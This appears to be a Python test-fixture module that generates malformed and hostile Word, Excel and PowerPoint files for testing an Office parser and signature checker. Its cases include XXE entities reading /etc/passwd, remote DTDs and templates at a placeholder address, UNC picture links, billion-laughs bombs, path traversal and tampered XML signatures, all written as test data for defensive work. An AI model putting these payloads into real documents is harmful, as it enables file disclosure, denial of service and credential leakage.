"""Office files whose parts are odd: kinds, relationships, XML, macros, signatures."""

from __future__ import annotations

import re
from pathlib import Path

import office
from odd_world import odds
from office import OFFICE, a_docx, a_pptx, an_xlsx, changed, edited, opened, packed, signed

TYPES = "[Content_Types].xml"
DOCUMENT = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
OUTSIDE = ' TargetMode="External"'
MAIN = "wordprocessingml.document.main+xml"
SIGNATURE = office.SIGNATURE
ORIGIN_RELS = "_xmlsignatures/_rels/origin.sigs.rels"
DATA = Path(__file__).parent / "data"
LAUGHS = b"".join(
    b'<!ENTITY l%d "%s">' % (number, b"&l%d;" % (number - 1) * 10) for number in range(1, 10)
)


def related_to(content, kind, target, *, name=RELS, mode=""):
    """Add a relationship."""
    row = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return edited(content, name, "</Relationships>", row)


def of_kind(content, name, kind):
    """Tell of what kind a part is."""
    row = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    return edited(content, TYPES, "</Types>", row)


def with_macros(content):
    """Add a project of macros, as Word has it."""
    added = of_kind(content, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    related = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    added = related_to(added, related, "vbaProject.bin")
    return changed(added, {"word/vbaProject.bin": b"\xd0\xcf"})


def strict(content):
    """Return an office file in the strict form of the standard (ISO/IEC 29500-1)."""
    places = {
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships": (
            "http://purl.oclc.org/ooxml/officeDocument/relationships"
        ),
        "http://schemas.openxmlformats.org/wordprocessingml/2006/main": (
            "http://purl.oclc.org/ooxml/wordprocessingml/main"
        ),
    }
    parts = {}
    for name, one in opened(content).items():
        for old, new in places.items():
            one = one.replace(old.encode(), new.encode())  # noqa: PLW2901 - one after another
        parts[name] = one
    return packed(parts)


def in_utf16(content, name):
    """Write a part in UTF-16, as the standard lets it be."""
    text = opened(content)[name].decode()
    text = re.sub(r"<\?xml[^>]*\?>", '<?xml version="1.0" encoding="UTF-16"?>', text, count=1)
    return changed(content, {name: text.encode("utf-16")})


def _xml(name, content):
    return lambda w: changed(w.docx, {name: content})


def _typed(entity, inner=b""):
    space = b"http://schemas.openxmlformats.org/package/2006/content-types"
    return b"<!DOCTYPE x [%s]><Types xmlns='%s'>%s</Types>" % (entity, space, inner)


def _of_templates(template):
    """Return a letter of one of the kinds that macros or templates have."""
    kinds = {
        "dotx": "wordprocessingml.template.main+xml",
        "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    }
    whole = f"application/vnd.openxmlformats-officedocument.{MAIN}"
    new = kinds[template]
    new = new if "/" in new else f"application/vnd.openxmlformats-officedocument.{new}"
    return edited(a_docx(), TYPES, whole, new)


def _sample(name):
    return lambda _: (DATA / "signed" / name).read_bytes()


def _ours(name):
    return lambda _: (DATA / "documents" / name).read_bytes()


def _many_relationships(count):
    rows = [(f"rId{one}", f"{OFFICE}/hyperlink", f"x{one}") for one in range(1, count)]
    return changed(a_docx(), {"word/_rels/styles.xml.rels": office.related(*rows)})


def _again(world, count):
    made = world.signed_docx
    for _ in range(count):
        made = signed(made, world.pki.signer("p256"))
    return made


SOUND = (
    *odds(
        {
            "letter.docx: a letter": lambda w: w.docx,
            "table.xlsx: a table": lambda _: an_xlsx(),
            "table-large.xlsx: a table of 4 000 rows": lambda _: an_xlsx(4_000, 6),
            "slides.pptx: slides": lambda _: a_pptx(),
            "libreoffice.docx: a letter of LibreOffice's": _ours("libreoffice.docx"),
            "libreoffice.xlsx: a table of LibreOffice's": _ours("libreoffice.xlsx"),
            "strict.docx: the strict form of the standard": lambda w: strict(w.docx),
            "link.docx: a link to the web": lambda _: a_docx(link="https://example.vn/"),
            "signed-poi.docx: signed by Apache POI": _sample("poi.docx"),
            "signed-poi-sha1.xlsx: signed by Apache POI with SHA-1": _sample("poi-sha1.xlsx"),
            "signed-poi-sha512.xlsx: signed by Apache POI with SHA-512": _sample(
                "poi-sha512.xlsx"
            ),
            "signed-libreoffice.docx: signed by LibreOffice": _sample("libreoffice.docx"),
            "signed-libreoffice.xlsx: a table signed by LibreOffice": _sample("libreoffice.xlsx"),
        },
        signs=True,
    ),
    *odds(
        {
            "signed.docx: signed by a person": lambda w: w.signed_docx,
            "signed-3.docx: signed three times": lambda w: _again(w, 2),
            "signed.pptx: signed slides": lambda w: signed(a_pptx(), w.pki.signer("person")),
        },
        valid=True,
        signs=True,
    ),
)

PARTS = (
    *odds(
        {
            "kinds-none.docx: no list of kinds": lambda w: changed(w.docx, {TYPES: None}),
            "kinds-empty.docx: an empty list of kinds": _xml(TYPES, b""),
            "kinds-other.docx: another XML for the list of kinds": _xml(TYPES, b"<x/>"),
            "kinds-twice.docx: a kind told twice": lambda w: of_kind(
                w.docx, "WORD/document.xml", "a/b"
            ),
            "kinds-wrong.docx: a letter that says it is a picture": lambda w: edited(
                w.docx, TYPES, f"application/vnd.openxmlformats-officedocument.{MAIN}", "image/png"
            ),
            "kinds-cut.docx: a list of kinds cut off": lambda w: changed(
                w.docx, {TYPES: opened(w.docx)[TYPES][:300]}
            ),
            "kind-missing.docx: a part of no kind": lambda w: related_to(
                changed(w.docx, {"word/x.unknown": b"x"}), f"{OFFICE}/image", "x.unknown"
            ),
            "related-none.docx: no relationships": lambda w: changed(
                w.docx, {"_rels/.rels": None}
            ),
            "related-empty.docx: empty relationships": _xml("_rels/.rels", b""),
            "related-other.docx: another XML for relationships": _xml("_rels/.rels", b"<x/>"),
            "related-twice.docx: two documents": lambda w: related_to(
                w.docx, f"{OFFICE}/officeDocument", "word/styles.xml", name="_rels/.rels"
            ),
            "related-nowhere.docx: a document that is not there": lambda w: changed(
                w.docx, {DOCUMENT: None}
            ),
            "related-same-id.docx: two relationships of one id": lambda w: related_to(
                related_to(w.docx, f"{OFFICE}/hyperlink", "styles.xml"),
                f"{OFFICE}/hyperlink",
                "settings.xml",
            ),
            "macros.docx: macros in a letter": lambda w: with_macros(w.docx),
            "macros.docm: a letter of the kind with macros": lambda _: _of_templates("docm"),
            "template.dotx: a template": lambda _: _of_templates("dotx"),
            "dtd.docx: a document type declaration": _xml(TYPES, _typed(b"")),
            "dtd-outside.docx: an entity in a file": _xml(
                TYPES, _typed(b"<!ENTITY a SYSTEM 'file:///etc/passwd'>", b"&a;")
            ),
            "dtd-remote.docx: a declaration from the web": _xml(
                TYPES, b"<!DOCTYPE x SYSTEM 'http://192.0.2.1/x.dtd'><x/>"
            ),
            "laughs.docx: a billion laughs": _xml(
                TYPES, _typed(b'<!ENTITY l0 "ha">' + LAUGHS, b"&l9;")
            ),
            "laughs-related.docx: a billion laughs in relationships": _xml(
                "_rels/.rels", b'<!DOCTYPE x [<!ENTITY l0 "ha">' + LAUGHS + b"]><x>&l9;</x>"
            ),
            "blowup.docx: one long entity 50 000 times": _xml(
                TYPES, _typed(b'<!ENTITY a "' + b"a" * 50_000 + b'">', b"&a;" * 50_000)
            ),
            "deep.docx: XML 100 000 deep": _xml(TYPES, b"<x>" * 100_000 + b"</x>" * 100_000),
            "attributes.docx: an element of 100 000 attributes": _xml(
                TYPES, b"<x " + b" ".join(b'a%d="1"' % one for one in range(100_000)) + b"/>"
            ),
            "attribute-long.docx: an attribute of 12 MB": _xml(
                TYPES, b'<x a="' + b"a" * (12 << 20) + b'"/>'
            ),
            "spaces.docx: 100 000 namespaces": _xml(
                TYPES,
                b"<x "
                + b" ".join(b'xmlns:a%d="u:%d"' % (one, one) for one in range(100_000))
                + b"/>",
            ),
            "utf7.docx: a list of kinds in UTF-7": _xml(
                TYPES, b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-'
            ),
            "encoding-unknown.docx: an encoding nobody knows": _xml(
                TYPES, b'<?xml version="1.0" encoding="x-own"?><x/>'
            ),
            "xml-1.1.docx: XML 1.1": _xml(TYPES, b'<?xml version="1.1"?><x>&#1;</x>'),
            "zeros-in-xml.docx: zeros in XML": _xml(TYPES, b"<x>\0</x>"),
        }
    ),
    *odds(
        {
            "related-itself.docx: a document that leads to itself": lambda w: related_to(
                w.docx, f"{OFFICE}/subDocument", "document.xml"
            ),
            "related-many.docx: 5 000 relationships": lambda _: _many_relationships(5_000),
            "related-odd.docx: a relationship to nonsense": lambda w: related_to(
                w.docx, f"{OFFICE}/image", "http://[::1"
            ),
            "related-up.docx: a relationship above the package": lambda w: related_to(
                w.docx, f"{OFFICE}/image", "../../../etc/passwd"
            ),
            "template-remote.docx: a template on another machine": lambda w: related_to(
                w.docx, f"{OFFICE}/attachedTemplate", "http://192.0.2.1/x.dotm", mode=OUTSIDE
            ),
            "file-remote.docx: a picture on another machine (UNC)": lambda w: related_to(
                w.docx, f"{OFFICE}/image", r"file://\\192.0.2.1\share\x.png", mode=OUTSIDE
            ),
            "dtd-body.docx: a document type declaration in the text": _xml(
                DOCUMENT, b"<!DOCTYPE x><x/>"
            ),
            "utf16.docx: a list of kinds in UTF-16": lambda w: in_utf16(w.docx, TYPES),
            "utf16-text.docx: text in UTF-16": lambda w: in_utf16(w.docx, DOCUMENT),
            "instructions.docx: a style sheet for the list of kinds": lambda w: edited(
                w.docx, TYPES, "<Types", '<?xml-stylesheet href="http://192.0.2.1/x.xsl"?><Types'
            ),
            "text-cut.docx: text that ends in the middle": lambda w: changed(
                w.docx, {DOCUMENT: opened(w.docx)[DOCUMENT][:500]}
            ),
            "text-empty.docx: no text at all": _xml(DOCUMENT, b""),
        },
        signs=True,
    ),
)


def _listed_twice(world):
    kind = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature"
    return related_to(world.signed_docx, f"{kind}/signature", "sig1.xml", name=ORIGIN_RELS)


SIGNATURES = (
    *odds(
        {
            "changed-text.docx: signed, and a word changed": lambda w: edited(
                w.signed_docx, DOCUMENT, "Sở", "Bộ"
            ),
            "changed-macros.docx: signed, and macros added": lambda w: with_macros(w.signed_docx),
            "changed-template.docx: signed, and a remote template": lambda w: related_to(
                w.signed_docx,
                f"{OFFICE}/attachedTemplate",
                "http://192.0.2.1/x.dotm",
                mode=OUTSIDE,
            ),
            "changed-removed.docx: signed, and a part taken out": lambda w: changed(
                w.signed_docx, {"word/styles.xml": None}
            ),
            "changed-list.docx: signed, and the signed list changed": lambda w: edited(
                w.signed_docx, SIGNATURE, "/word/styles.xml?", "/word/style.xml?"
            ),
            "signature-gone.docx: signed, and the signature taken out": lambda w: changed(
                w.signed_docx, {SIGNATURE: None}
            ),
            "signature-empty.docx: an empty signature": lambda w: changed(
                w.signed_docx, {SIGNATURE: b""}
            ),
            "signature-other.docx: another XML for a signature": lambda w: changed(
                w.signed_docx, {SIGNATURE: b"<x/>"}
            ),
            "signature-bare.docx: a signature with nothing in it": lambda w: changed(
                w.signed_docx,
                {SIGNATURE: b"<Signature xmlns='http://www.w3.org/2000/09/xmldsig#'/>"},
            ),
            "signature-cut.docx: a signature cut off": lambda w: changed(
                w.signed_docx, {SIGNATURE: opened(w.signed_docx)[SIGNATURE][:2000]}
            ),
            "signature-dtd.docx: entities in a signature": lambda w: changed(
                w.signed_docx,
                {SIGNATURE: b'<!DOCTYPE x [<!ENTITY l0 "ha">' + LAUGHS + b"]><x>&l9;</x>"},
            ),
            "signature-large.docx: a signature of 17 MB": lambda w: changed(
                w.signed_docx, {SIGNATURE: b"<x>" + b" " * (17 << 20) + b"</x>"}
            ),
            "signature-value.docx: a signature's value of letters": lambda w: _revalued(
                w, "not base64!"
            ),
            "signature-no-value.docx: no value in the signature": lambda w: _revalued(w, ""),
            "signature-digest.docx: digests of letters": lambda w: _redigested(w, "&#37;"),
            "signature-method.docx: a method nobody knows": lambda w: edited(
                w.signed_docx, SIGNATURE, "xmldsig-more#rsa-sha256", "xmldsig-more#own"
            ),
            "signature-transform.docx: a style sheet for a transform": lambda w: edited(
                w.signed_docx,
                SIGNATURE,
                "http://schemas.openxmlformats.org/package/2006/RelationshipTransform",
                "http://www.w3.org/TR/1999/REC-xslt-19991116",
            ),
            "signature-uri.docx: a reference to the web": lambda w: edited(
                w.signed_docx, SIGNATURE, "/word/styles.xml?", "http://192.0.2.1/styles.xml?"
            ),
            "signature-id.docx: two elements of one id": lambda w: edited(
                w.signed_docx, SIGNATURE, 'Id="idOfficeObject"', 'Id="idPackageObject"'
            ),
            "signature-time.docx: a signing time of words": lambda w: edited(
                w.signed_docx, SIGNATURE, "<xd:SigningTime>2026", "<xd:SigningTime>Anno"
            ),
            "signature-unlisted.docx: a signature that is not listed": lambda w: changed(
                w.signed_docx, {ORIGIN_RELS: office.related()}
            ),
            "signature-twice.docx: a signature listed twice": _listed_twice,
            "signature-list-odd.docx: no XML for the list of signatures": lambda w: changed(
                w.signed_docx, {ORIGIN_RELS: b"junk"}
            ),
            "signature-origins.docx: two lists of signatures": lambda w: related_to(
                w.signed_docx,
                "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin",
                "_xmlsignatures/other.sigs",
                name="_rels/.rels",
            ),
        },
        signs=None,
    ),
    *odds(
        {
            "by-revoked.docx: by a revoked certificate": lambda w: signed(
                w.docx, w.pki.signer("revoked")
            ),
            "by-stranger.docx: by a stranger": lambda w: signed(w.docx, w.pki.signer("stranger")),
        },
        signs=True,
    ),
    *odds(
        {
            "signed-cut.docx: signed, and the end lost": lambda w: w.signed_docx[:-50],
            "signed-behind.docx: signed, and bytes behind": lambda w: w.signed_docx + b"more",
        }
    ),
)


def _revalued(world, text):
    part = opened(world.signed_docx)[SIGNATURE].decode()
    new = re.sub(r"(<(\w+:)?SignatureValue[^>]*>)[^<]*", rf"\g<1>{text}", part, count=1)
    return changed(world.signed_docx, {SIGNATURE: new.encode()})


def _redigested(world, text):
    part = opened(world.signed_docx)[SIGNATURE].decode()
    new = re.sub(r"(<(\w+:)?DigestValue>)[^<]*", rf"\g<1>{text}", part)
    return changed(world.signed_docx, {SIGNATURE: new.encode()})


FILES = (*SOUND, *PARTS, *SIGNATURES)
